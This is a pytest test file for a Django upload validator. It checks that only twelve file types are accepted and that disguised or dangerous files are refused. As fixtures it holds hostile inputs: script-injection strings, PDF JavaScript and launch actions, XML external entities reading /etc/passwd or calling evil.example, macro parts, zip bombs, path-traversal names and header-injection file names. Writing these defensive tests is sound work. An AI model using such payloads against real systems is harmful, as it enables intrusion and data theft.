"""What may be stored: twelve types by their content, and why anything else is refused."""

import hashlib
import io
import zipfile
import zlib
from collections.abc import Iterable
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings
from PIL import Image

from accounts.models import Member
from library import inspection
from library.inspection import TYPES, clean_name, inspect
from library.models import StoredFile
from library.operations import store_file
from library.refusals import FileRefused
from tests.factories import NOW

PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /OpenAction [2 0 R /Fit] >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
CONTENT_TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
PART = b'<?xml version="1.0" encoding="UTF-8"?><document><p>Words</p></document>'
MACROS = {"[Content_Types].xml": b"<Types>application/vnd.ms-word.document.macroEnabled.main+xml</Types>"}


def archive(parts: dict[str, bytes], *, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip file of these parts."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as file:
        for name, content in parts.items():
            file.writestr(name, content)
    return buffer.getvalue()


def ooxml(extension: str, **more: bytes) -> bytes:
    """A small office file of Microsoft's format."""
    return archive({"[Content_Types].xml": CONTENT_TYPES, inspection.MAIN_PART[extension]: PART, **more})


def docx(parts: dict[str, bytes]) -> bytes:
    """A DOCX with these parts added or replaced."""
    return archive({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": PART, **parts})


def odf(extension: str, parts: dict[str, bytes] | None = None) -> bytes:
    """A small office file of the open format."""
    return archive({"mimetype": TYPES[extension].encode(), "content.xml": PART, **(parts or {})})


def picture(kind: str) -> bytes:
    """A small picture."""
    buffer = io.BytesIO()
    Image.new("RGB", (2, 2)).save(buffer, kind)
    return buffer.getvalue()


PNG, JPEG = picture("PNG"), picture("JPEG")
GOOD = {
    "report.pdf": PDF,
    "report.docx": ooxml("docx"),
    "figures.xlsx": ooxml("xlsx"),
    "talk.pptx": ooxml("pptx"),
    "report.odt": odf("odt"),
    "figures.ods": odf("ods"),
    "talk.odp": odf("odp"),
    "note.txt": "Bonjour à tous\r\n\tЗдравствуйте\f".encode(),
    "note.text": b"\xef\xbb\xbfWith a byte order mark",
    "list.csv": b"office;answer\nMeridia;supports < all >\n",
    "meeting.ics": b"BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n",
    "photo.png": PNG,
    "photo.jpg": JPEG,
    "photo.JPEG": JPEG,
}


def upload(name: str, content: bytes, claimed: str = "application/octet-stream") -> SimpleUploadedFile:
    """An upload as a form receives it; what the browser claims about its type is never believed."""
    return SimpleUploadedFile(name, content, claimed)


def refusal(name: str, content: bytes) -> str:
    """What the page says about a refused file."""
    file = upload(name, content)
    with pytest.raises(FileRefused) as refused:
        inspect(file)
    assert file.tell() == 0
    return str(refused.value)


# --- what comes in ----------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("name", GOOD)
def test_a_file_that_is_what_its_name_claims_comes_in(name: str) -> None:
    file = upload(name, GOOD[name], "text/html")
    extension = {"jpeg": "jpg", "text": "txt"}.get(name.lower().rpartition(".")[2], name.rpartition(".")[2])
    assert inspect(file) == TYPES[extension]
    assert file.tell() == 0


def test_there_are_twelve_types() -> None:
    assert sorted(TYPES) == ["csv", "docx", "ics", "jpg", "odp", "ods", "odt", "pdf", "png", "pptx", "txt", "xlsx"]


def test_a_stored_file_keeps_what_was_received(ana: Member, tmp_path: Path) -> None:
    with override_settings(MEDIA_ROOT=tmp_path):
        stored = store_file(upload=upload("../Our answer.pdf", PDF, "text/html"), by=ana.user, now=NOW)
        stored.refresh_from_db()
        assert stored.content.read() == PDF
        stored.content.close()
    assert (stored.name, stored.content_type, stored.size) == ("Our answer.pdf", "application/pdf", len(PDF))
    assert stored.sha256 == hashlib.sha256(PDF).hexdigest()
    assert (stored.uploaded_by, stored.uploaded_at, stored.format) == (ana.user, NOW, "PDF")
    assert (str(stored), stored.get_absolute_url()) == ("Our answer.pdf", f"/files/{stored.pk}/Our%20answer.pdf")


def test_the_place_of_a_file_tells_nothing(db: None, tmp_path: Path) -> None:
    with override_settings(MEDIA_ROOT=tmp_path):
        places = {store_file(upload=upload("a.pdf", PDF), by=None, now=NOW).content.name for _ in range(3)}
    assert len(places) == 3
    assert all(len(place) == 35 and place[:2] == place[3:5] and place[3:].isalnum() for place in places)


def test_a_refused_file_leaves_no_row(db: None) -> None:
    with pytest.raises(FileRefused):
        store_file(upload=upload("a.pdf", b"no"), by=None, now=NOW)
    assert StoredFile.objects.count() == 0


# --- what does not ----------------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "name",
    ["a.svg", "a.html", "a.xhtml", "a.mht", "a.exe", "a.docm", "a.xlsm", "a.zip", "a.pdf.exe", "a", "pdf", ".pdf"],
)
def test_other_types_are_refused_with_the_list_of_those_that_are_not(name: str) -> None:
    message = refusal(name, PDF)
    assert message.startswith("Files of this type are not accepted. Accepted are PDF, DOCX, XLSX, PPTX, ODT,")


def test_an_empty_file_is_refused() -> None:
    assert refusal("a.pdf", b"") == "The file is empty."


@pytest.mark.parametrize(("size", "refused"), [(-1, False), (0, False), (1, True)])
def test_the_limit_is_exact(size: int, refused: bool) -> None:
    with override_settings(UPLOAD_MAX_BYTES=1000):
        content = b"a" * (1000 + size)
        if refused:
            assert refusal("a.txt", content) == "The file has 1001\xa0bytes; at most 1000\xa0bytes are accepted."
        else:
            assert inspect(upload("a.txt", content)) == "text/plain; charset=utf-8"


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.pdf", b"<html><script>alert(1)</script></html>"),
        ("a.pdf", b"GIF89a/*%PDF-1.7*/=1;"),
        ("a.pdf", b"\n%PDF-1.7\n"),
        ("a.pdf", GOOD["report.docx"]),
        ("a.docx", PDF),
        ("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 a file with a password"),
        ("a.docx", GOOD["figures.xlsx"]),
        ("a.docx", GOOD["report.odt"]),
        ("a.xlsx", archive({"readme.txt": b"Words"})),
        ("a.docx", archive({"word/document.xml": PART})),
        ("a.odt", GOOD["report.docx"]),
        ("a.odt", odf("ods")),
        ("a.png", JPEG),
        ("a.jpg", PNG),
        ("a.png", b"Just words"),
        ("a.png", b"<svg xmlns='http://www.w3.org/2000/svg'/>"),
        ("a.txt", b"MZ\x00\x03"),
        ("a.csv", b"a,b\n1,\x00"),
        ("a.txt", b"\x1b[31mred"),
        ("a.ics", b"Just words"),
    ],
)
def test_a_file_that_is_not_what_it_claims_is_refused(name: str, content: bytes) -> None:
    kind = name.rpartition(".")[2].upper()
    expected = f"The name says {kind}, the content does not. Save the file as {kind} again, without a password."
    assert refusal(name, content) == expected


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.txt", b"<!DOCTYPE html><p>Hello"),
        ("a.csv", b"name\n<SCRIPT>alert(1)</SCRIPT>"),
        ("a.txt", b"<svg onload=alert(1)>"),
        ("a.txt", b"< ?xml version='1.0'?>".replace(b" ", b"", 1)),
        ("a.ics", b"BEGIN:VCALENDAR\nDESCRIPTION:<iframe src=x>"),
    ],
)
def test_markup_in_a_text_is_refused(name: str, content: bytes) -> None:
    assert refusal(name, content) == "The file holds HTML, SVG or XML, which can carry a program. Send it as PDF."


def test_a_text_that_is_not_utf_8_is_refused() -> None:
    assert refusal("a.txt", "déjà".encode("latin-1")) == "The text is not in UTF-8. Save it as UTF-8, or send a PDF."


def pdf_with(*objects: bytes) -> bytes:
    """A PDF with these objects."""
    return b"%PDF-1.7\n" + b"\n".join(objects) + b"\n%%EOF\n"


PACKED = zlib.compress(b"5 0 6 40 << /S /JavaScript /JS (app.alert) >>")


@pytest.mark.parametrize(
    "objects",
    [
        (b"<< /S /JavaScript /JS (app.alert(1)) >>",),
        (b"<< /S /J#61vaScript >>",),
        (b"<< /S /Launch /F (cmd.exe) >>",),
        (b"<< /Type /EmbeddedFile >>",),
        (b"<< /Names << /EmbeddedFiles 7 0 R >> >>",),
        (b"<< /Subtype /RichMedia >>",),
        (b"<< /Length 3 >>\nstream\nabc\nendstream", b"<< /JS (x) >>"),
        (b"<< /Type /ObjStm /Filter /FlateDecode >>\nstream\n" + PACKED + b"\nendstream",),
        (b"<< /Type /ObjStm >>\nstream\n5 0 << /JS (x) >>\nendstream",),
        (b"<< /Type /ObjStm >>\nstream\n5 0 << /JS (x) >> cut off",),
    ],
)
def test_a_pdf_with_a_program_or_a_file_in_it_is_refused(objects: tuple[bytes, ...]) -> None:
    message = "The PDF holds a program or another file. Print it to a new PDF and send that."
    assert refusal("a.pdf", pdf_with(*objects)) == message


@pytest.mark.parametrize(
    "objects",
    [
        (b"<< /Length 20 >>\nstream\n/JavaScript in words\nendstream",),
        (b"<< /Font << /JSans 3 0 R >> /Launching 1 >>",),
        (b"<< /Length 9 >>\nstream\ncut off",),
    ],
)
def test_words_of_a_pdf_are_not_taken_for_a_program(objects: tuple[bytes, ...]) -> None:
    assert inspect(upload("a.pdf", pdf_with(*objects))) == "application/pdf"


@pytest.mark.parametrize(
    "content",
    [
        docx(MACROS),
        docx({"word/vbaProject.bin": b"\xd0\xcf"}),
        docx({"WORD/VBAPROJECT.BIN": b"\xd0\xcf"}),
        docx({"word/vbaData.xml": PART}),
        docx({"word/activeX/activeX1.xml": PART}),
    ],
)
def test_macros_are_refused(content: bytes) -> None:
    assert refusal("a.docx", content) == "The file holds macros. Save it without macros, or send a PDF."


@pytest.mark.parametrize("part", ["Basic/Standard/Module1.xml", "Scripts/python/run.py"])
def test_macros_of_the_open_format_are_refused(part: str) -> None:
    assert refusal("a.odt", odf("odt", {part: PART})) == "The file holds macros. Save it without macros, or send a PDF."


@pytest.mark.parametrize(
    "head",
    [
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]><x/>',
        b'<!doctype x SYSTEM "file:///etc/passwd"><x/>',
        '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE x><x/>'.encode("utf-16"),
        b"<!ENTITY % remote SYSTEM 'http://evil.example/x'>",
    ],
)
def test_xml_entities_are_refused(head: bytes) -> None:
    message = "The file holds XML entities, which no office program writes. Send it as PDF."
    assert refusal("a.docx", docx({"word/settings.xml": head})) == message
    assert refusal("a.odt", odf("odt", {"styles.xml": head})) == message
    assert refusal("a.xlsx", ooxml("xlsx", **{"xl/_rels/workbook.xml.rels": head})) == message


# --- archives built to harm -------------------------------------------------------------------------------------------
BOMB = "The file grows far beyond its size when opened. Send it as PDF."


def test_a_file_that_unpacks_to_a_hundred_times_its_size_is_refused() -> None:
    assert refusal("a.docx", docx({"word/media/zeros.bin": b"\0" * 3_000_000})) == BOMB


def test_the_ratio_is_exact() -> None:
    content = docx({})
    with zipfile.ZipFile(io.BytesIO(content)) as file:
        entries = file.infolist()
    packed, unpacked = (sum(getattr(e, name) for e in entries) for name in ("compress_size", "file_size"))
    entries[0].file_size += inspection.MAX_RATIO * packed - unpacked
    inspection._check_archive(entries)
    entries[0].file_size += 1
    with pytest.raises(FileRefused, match="grows far beyond"):
        inspection._check_archive(entries)


def entries_of(sizes: Iterable[int]) -> list[zipfile.ZipInfo]:
    """Entries that say they have these sizes, hardly compressed."""
    entries = []
    for number, size in enumerate(sizes):
        entry = zipfile.ZipInfo(f"{number}.xml")
        entry.file_size = entry.compress_size = size
        entries.append(entry)
    return entries


def test_the_number_of_entries_is_limited_exactly() -> None:
    inspection._check_archive(entries_of([1] * 2000))
    with pytest.raises(FileRefused, match="grows far beyond"):
        inspection._check_archive(entries_of([1] * 2001))


def test_the_unpacked_size_is_limited_exactly() -> None:
    limit = 200 * 1024 * 1024
    inspection._check_archive(entries_of([limit - 1, 1]))
    with pytest.raises(FileRefused, match="grows far beyond"):
        inspection._check_archive(entries_of([limit, 1]))


@pytest.mark.parametrize("name", ["../../etc/passwd", "/etc/passwd", "word/../../x.xml", "C:/x.xml"])
def test_an_entry_outside_the_file_is_refused(name: str) -> None:
    expected = "The file points outside itself. Open it, save it again and send the new one."
    assert refusal("a.docx", docx({name: PART})) == expected


def test_a_link_in_a_file_is_refused() -> None:
    buffer = io.BytesIO(ooxml("docx"))
    with zipfile.ZipFile(buffer, "a") as file:
        link = zipfile.ZipInfo("word/link.xml")
        link.external_attr = 0o120777 << 16
        file.writestr(link, "/etc/passwd")
    assert refusal("a.docx", buffer.getvalue()).startswith("The file points outside itself.")


def test_a_file_with_a_password_is_refused() -> None:
    content = bytearray(ooxml("docx"))
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = content.find(signature)
        content[place + offset] |= 1
    assert refusal("a.docx", bytes(content)) == "The file is protected by a password. Send it without one."


@pytest.mark.parametrize("cut", [30, 200, -30])
def test_a_damaged_file_is_refused(cut: int) -> None:
    assert refusal("a.docx", ooxml("docx")[:cut]) == "The file is damaged. Open it, save it again and send the new one."


def test_a_part_that_does_not_unpack_is_refused() -> None:
    content = bytearray(ooxml("docx"))
    place = content.find(b"[Content_Types].xml") + len("[Content_Types].xml")
    content[place : place + 8] = b"\xff" * 8
    assert refusal("a.docx", bytes(content)).startswith("The file is damaged.")


# --- names ------------------------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("answer.pdf", "answer.pdf"),
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\ana\\answer.pdf", "answer.pdf"),
        ("/absolute/answer.pdf", "answer.pdf"),
        ("an\x00swer\r\nSet-Cookie: x.pdf", "answerSet-Cookie- x.pdf"),
        ('a"b<c>d|e?f*.pdf', "a-b-c-d-e-f-.pdf"),
        ("invoice\u202efdp.exe.pdf", "invoicefdp.exe.pdf"),
        ("  ..answer.pdf. ", "answer.pdf"),
        ("CON.pdf", "_CON.pdf"),
        ("lpt1", "_lpt1"),
        ("", "file"),
        ("...", "file"),
        ("\u202e", "file"),
        ("Ответ.pdf", "Ответ.pdf"),
        ("答复.pdf", "答复.pdf"),
        ("رد.pdf", "رد.pdf"),
        ("e\u0301tat.pdf", "état.pdf"),
    ],
)
def test_a_name_is_kept_without_what_harms(given: str, kept: str) -> None:
    assert clean_name(given) == kept


def test_a_long_name_keeps_its_ending() -> None:
    assert clean_name(f"{'a' * 300}.pdf") == f"{'a' * 146}.pdf"
    assert clean_name("a" * 300) == "a" * 150
